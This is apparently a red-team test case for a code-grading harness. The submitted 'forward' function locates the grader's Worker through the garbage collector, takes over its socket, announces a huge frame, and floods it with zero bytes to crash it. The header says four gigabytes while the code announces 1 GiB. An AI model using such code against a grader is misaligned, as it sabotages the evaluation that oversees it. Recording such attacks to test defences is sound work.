# what: Announce four gigabytes and send them.
# verdict: crashed
# breach: flood: more bytes of one message are taken than may be
# defence: frame-cap
# limits: cpu=2 memory=600
import gc
import os
import struct
import sys

encode = sys.modules["grader.wire.codec"].encode
worker = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Worker")
channel = worker._channel._socket
channel.setblocking(True)


def send(message):
    frame = message if isinstance(message, bytes) else encode(message)
    channel.sendall(struct.pack(">I", len(frame)) + frame)


def forward(x, w1, w2, b):
    channel.sendall(struct.pack(">I", 1 << 30))
    block = bytes(1 << 20)
    for _ in range(90):
        channel.sendall(block)
    os._exit(0)
